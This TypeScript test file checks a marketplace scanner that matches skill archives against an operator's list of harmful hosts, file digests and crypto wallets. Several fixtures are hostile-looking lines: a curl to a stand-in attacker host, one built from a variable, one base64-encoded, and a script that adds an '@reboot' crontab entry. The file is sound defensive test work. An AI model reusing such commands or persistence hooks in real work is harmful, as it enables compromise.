import { createHash } from "node:crypto";
import { buildArchive } from "./build.js";
import { scanArchive } from "./scan.js";
import { MOST_THREATS, readThreats, threatOf, threatsVersion } from "./threats.js";

const HOST = "files.bad-actor.com";
const ETHEREUM = "0x00112233445566778899aAbBcCdDeEfF00112233";
const BITCOIN = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT";
const PROGRAM = "print('the known program')\n";
const digestOf = (bytes: string | Uint8Array) => createHash("sha256").update(bytes).digest("hex");

const LISTED = readThreats(
  { hosts: [HOST, "203.0.113.77"], digests: [digestOf(PROGRAM)], wallets: [ETHEREUM, BITCOIN] },
  (sentence) => {
    throw new Error(sentence);
  },
);

const archiveOf = (files: Record<string, string | Uint8Array>) =>
  buildArchive(
    Object.entries(files).map(([path, content]) => ({
      path,
      bytes: typeof content === "string" ? Buffer.from(content) : content,
    })),
  );

async function found(files: Record<string, string | Uint8Array>) {
  const { outcome, findings } = await scanArchive(await archiveOf(files), { threats: LISTED });
  return { outcome, rules: findings.map(({ rule }) => rule).filter((rule) => rule.startsWith("listed-")) };
}

describe("the operator's list", () => {
  test.each([
    ["a host in a sentence", { "SKILL.md": `Read the notes.\n\nMore is at _${HOST}_.\n` }, "listed-host"],
    ["what is below it", { "SKILL.md": `See https://a.b.${HOST.toUpperCase()}:8443/x.\n` }, "listed-host"],
    [
      "one written with letters of other scripts",
      { "SKILL.md": `See ${HOST.replace("a", "а")}\n` },
      "listed-host",
    ],
    ["an address", { "a.py": `ADDRESS = "203.0.113.77:4444"\n` }, "listed-host"],
    [
      "a host that a program puts together",
      { "a.sh": "#!/bin/sh\nOWNER=actor\ncurl -o list https://files.bad-$OWNER.com/list\n" },
      "listed-host",
    ],
    [
      "a host in a text that is encoded",
      { "SKILL.md": `${Buffer.from(`curl https://${HOST}/a/long/path/of/it`).toString("base64")}\n` },
      "listed-host",
    ],
    ["a wallet in another case", { "SKILL.md": `Pay to ${ETHEREUM.toLowerCase()}.\n` }, "listed-wallet"],
    ["a wallet in data", { "x.dat": Buffer.from(`\0\xff${BITCOIN}\0`, "latin1") }, "listed-wallet"],
  ])("holds %s", async (_, files, rule) => {
    expect(await found(files as Record<string, string>)).toEqual({ outcome: "hold", rules: [rule] });
  });

  test("blocks a file that it names, also inside another archive, and a whole archive", async () => {
    const blocked = { outcome: "block", rules: ["listed-digest"] };
    expect(await found({ "a.py": PROGRAM })).toEqual(blocked);
    expect(await found({ "b.zip": await archiveOf({ "a.py": PROGRAM }) })).toMatchObject(blocked);
    const bytes = await archiveOf({ "SKILL.md": "Read the notes.\n" });
    const threats = { ...LISTED, digests: new Set([digestOf(bytes)]) };
    expect(await scanArchive(bytes, { threats })).toMatchObject({
      outcome: "block",
      findings: [{ rule: "listed-digest" }, {}],
    });
  });

  test("blocks a listed host beside other evidence", async () => {
    const files = { "a.sh": `#!/bin/sh\necho "@reboot sh a.sh" | crontab -\ncurl https://${HOST}/x\n` };
    expect((await found(files)).outcome).toBe("block");
  });

  test("says where, and never more than what is listed", async () => {
    const bytes = await archiveOf({ "SKILL.md": `One\nTwo password=hunter2hunter2 ${HOST}\n` });
    const { findings } = await scanArchive(bytes, { threats: LISTED });
    expect(findings[0]).toMatchObject({ rule: "listed-host", file: "SKILL.md", line: 2 });
    expect(findings[0]?.message).toBe(`A host that this marketplace knows to be harmful: ${HOST}`);
    expect(JSON.stringify(findings)).not.toContain("hunter2");
  });

  test.each([
    ["another host of the same owner", { "SKILL.md": "See www.bad-actor.com.\n" }],
    ["a host that ends alike", { "SKILL.md": `See x${HOST}.\n` }],
    ["a host that begins alike", { "SKILL.md": `See ${HOST}.example.org.\n` }],
    ["a wallet inside a longer one", { "SKILL.md": `See ${BITCOIN}7.\n` }],
    ["a program that differs by a character", { "a.py": `${PROGRAM}\n` }],
  ])("does not find %s", async (_, files) => {
    expect(await found(files as unknown as Record<string, string>)).toEqual({ outcome: "pass", rules: [] });
  });

  test("takes a bounded time for text that is made of dots", async () => {
    const text = `${"a.".repeat(100_000)}\n`;
    expect(await found({ "a.md": text })).toMatchObject({ rules: [] });
  });
});

describe("an entry", () => {
  test.each([
    ["Files.Bad-Actor.com ", "hosts", "files.bad-actor.com"],
    ["xn--80ak6aa92e.com", "hosts", "xn--80ak6aa92e.com"],
    ["198.51.100.4", "hosts", "198.51.100.4"],
    ["A".repeat(64), "digests", "a".repeat(64)],
    [ETHEREUM, "wallets", ETHEREUM.toLowerCase()],
    [BITCOIN, "wallets", BITCOIN],
    ["BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4", "wallets", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"],
  ])("%s is one of %s", (typed, kind, value) => {
    expect(threatOf(typed)).toEqual({ kind, value });
  });

  test.each([
    "",
    "com",
    "https://files.bad-actor.com/x",
    "files..com",
    "-a.com",
    "a.com/x",
    "1.2.3.256",
    "localhost",
    "127.0.0.1",
    "10.1.2.3",
    "github.com",
    "raw.githubusercontent.com",
    "0x0011",
    "a".repeat(63),
    digestOf(""),
    "x".repeat(301),
    7,
    null,
  ])("is refused with a sentence: %s", (typed) => {
    expect(threatOf(typed)).toMatch(/^[A-Z].+\.$/);
  });
});

describe("a document", () => {
  test("with bad entries keeps the good ones, and says which it ignores", () => {
    const said: string[] = [];
    const fields = { hosts: ["com", HOST, BITCOIN, 7], digests: "no list", wallets: [BITCOIN], more: [1] };
    const threats = readThreats(fields, (sentence) => said.push(sentence));
    expect(threats).toEqual({
      hosts: new Set([HOST]),
      digests: new Set(),
      wallets: new Set([BITCOIN]),
      files: [],
    });
    expect(said).toEqual([
      expect.stringMatching(/^Entry 1 of hosts is ignored: /),
      "Entry 3 of hosts is ignored: It belongs to wallets.",
      expect.stringMatching(/^Entry 4 of hosts is ignored: /),
      "digests is no list",
    ]);
  });

  test("with too many entries counts the first ones", () => {
    const said: string[] = [];
    const hosts = Array.from({ length: MOST_THREATS.hosts + 1 }, (_, at) => `h${at}.bad-actor.com`);
    expect(readThreats({ hosts }, (sentence) => said.push(sentence)).hosts.size).toBe(MOST_THREATS.hosts);
    expect(said).toEqual(["hosts has 2001 entries; only the first 2000 count"]);
  });

  test("has a version by its entries, not by their order, and none while it is empty", () => {
    const version = (fields: object) => threatsVersion(readThreats({ ...fields }, () => undefined));
    expect(version({})).toBeUndefined();
    expect(version({ hosts: ["a.com", "b.com"] })).toBe(version({ hosts: ["b.com", "A.com", "com"] }));
    expect(version({ hosts: ["a.com"] })).not.toBe(version({ hosts: ["b.com"] }));
  });
});
